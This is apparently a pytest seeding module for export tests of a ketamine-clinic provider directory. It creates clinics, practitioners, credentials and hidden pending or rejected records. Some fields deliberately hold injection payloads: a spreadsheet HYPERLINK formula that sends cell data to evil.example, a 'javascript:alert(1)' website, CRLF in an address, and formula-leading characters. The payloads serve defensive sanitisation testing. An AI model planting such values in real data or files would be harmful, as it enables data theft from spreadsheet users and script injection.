"""Seeding helpers for the export tests: rows written straight through the models, as the indexer would."""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import pytest
from sqlalchemy.orm import Session

from indexer.db import Database
from indexer.db.models import Affiliation, Credential, FieldEvidence, Provider, RatingSummary, Source

HOSTILE_NAME = 'Clinic "Ünïcødé", Austin\n=HYPERLINK("http://evil.example/?x="&A1) 東京 ☕'
T0 = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
T1 = datetime(2026, 3, 4, 5, 6, 7, tzinfo=UTC)
T2 = datetime(2026, 5, 6, 7, 8, 9, tzinfo=UTC)


def add_source(s: Session, key: str, kind: str = "clinic_site") -> Source:
    src = Source(key=key, name=key.title(), kind=kind)
    s.add(src)
    s.flush()
    return src


def add_provider(s: Session, name: str, **fields: Any) -> Provider:
    fields.setdefault("status", "published")
    fields.setdefault("updated_at", T2)
    p = Provider(name=name, match_name=name.lower(), **fields)
    s.add(p)
    s.flush()
    return p


def add_evidence(s: Session, p: Provider, src: Source, field: str, value: Any, url: str | None,
                 first: datetime, last: datetime) -> None:
    digest = hashlib.sha256(json.dumps(value, sort_keys=True).encode()).hexdigest()
    s.add(FieldEvidence(provider_id=p.id, field=field, value=value, value_hash=digest, source_id=src.id, url=url,
                        first_seen=first, last_seen=last))


def add_credential(s: Session, p: Provider, credential: str | None, npi: str | None, outcome: str,
                   states: list[Any] | None = None, **registry: Any) -> None:
    s.add(Credential(provider_id=p.id, credential=credential, npi=npi, outcome=outcome,
                     license_states=states or [], **registry))


@dataclass
class Seeded:
    """Ids of the seeded directory, by role."""

    clinic: int
    no_geo: int
    practitioner: int
    stale: int
    hidden: dict[str, int]  # name marker -> id of a provider that must never be exported by default


def seed_directory(db: Database) -> Seeded:
    """A small directory with every case the exports must handle (see each provider's comment)."""
    with db.session() as s:
        site, directory = add_source(s, "clinic_site"), add_source(s, "directory:sample", "directory")
        # A rich, published clinic with hostile text in every free-text field.
        clinic = add_provider(
            s, HOSTILE_NAME, website="https://clinic.example/ketamine?a=1&b=2", email="front@clinic.example",
            phones=["+15125550100", "+15125550199"], street='12 "Main", Suite 3\r\nBack door', city="Austin",
            region="TX", postal_code="78701", country="US", lat=30.2672, lon=-97.7431, npi="1234567893",
            modalities=["iv_infusion", "esketamine_nasal", "not_a_code"], conditions=["depression", "ptsd"],
            services=["integration_therapy", "spravato_rems_certified"], rating_value=4.6, rating_count=31,
            qualification={"signals": ["psychiatrist_on_team", {"code": "rems", "source": "@evil"}, 7],
                           "verified": True})
        # The clinic's own organisation NPI: registry-verified, with the record it rests on.
        add_credential(s, clinic, None, "1234567893", "verified", registry_npi="1234567893",
                       registry_name="SUNRISE KETAMINE CLINIC PLLC", registry_type="NPI-2",
                       registry_taxonomy_code="261QM0801X", registry_taxonomy_desc="Clinic/Center, Mental Health",
                       registry_states=["TX"], registry_status="A", checked_at=datetime(2026, 5, 1, 12, tzinfo=UTC))
        # Published, no coordinates, a junk website and email, a partial address.
        no_geo = add_provider(s, "-Telehealth Only, LLC", website="javascript:alert(1)", email="not an email",
                              phones=["@+1 512 555 0111"], city="Dallas", region="TX",
                              modalities=["oral_sublingual", "at_home"], services=["telehealth"])
        prac = add_provider(s, "Dr. Ana Ortiz", kind="practitioner", npi="1993999998", lat=30.1, lon=-97.9)
        add_credential(s, prac, "MD", "1993999998", "verified", ["TX", "CA"], registry_npi="1993999998",
                       registry_name="ANA ORTIZ", registry_taxonomy_code="2084P0800X",
                       registry_taxonomy_desc="Psychiatry & Neurology, Psychiatry", registry_states=["CA", "TX", 7],
                       registry_status="A", registry_updated=datetime(2025, 4, 1, tzinfo=UTC),
                       checked_at=datetime(2026, 5, 1, 12, tzinfo=UTC))
        add_credential(s, prac, "DEA", None, "unchecked", ["TX", 5])
        pending_prac = add_provider(s, "LEAK-pending-practitioner", kind="practitioner", status="pending")
        stale = add_provider(s, "Stale Clinic", stale=True, lat=29.0, lon=-95.0)
        hidden = {
            "LEAK-pending": add_provider(s, "LEAK-pending", status="pending", lat=30.0, lon=-97.0).id,
            "LEAK-rejected": add_provider(s, "LEAK-rejected", status="rejected", lat=30.0, lon=-97.0).id,
            "LEAK-merged": add_provider(s, "LEAK-merged", merged_into_id=clinic.id, lat=30.0, lon=-97.0).id,
            "LEAK-pending-practitioner": pending_prac.id,
        }
        s.add_all([Affiliation(clinic_id=clinic.id, practitioner_id=prac.id, role="Medical Director"),
                   Affiliation(clinic_id=clinic.id, practitioner_id=pending_prac.id, role="Therapist")])
        s.add_all([RatingSummary(provider_id=clinic.id, source_id=site.id, value=4.8, count=20),
                   RatingSummary(provider_id=clinic.id, source_id=directory.id, value=4.2, count=11)])
        add_evidence(s, clinic, site, "name", HOSTILE_NAME, "https://clinic.example/", T0, T1)
        add_evidence(s, clinic, site, "phones", ["+15125550100"], "https://clinic.example/", T1, T2)
        add_evidence(s, clinic, directory, "name", "Clinic A", "https://dir.example/a", T1, T1)
        s.commit()
        return Seeded(clinic=clinic.id, no_geo=no_geo.id, practitioner=prac.id, stale=stale.id, hidden=hidden)


@pytest.fixture
def seeded(db: Database) -> Seeded:
    return seed_directory(db)
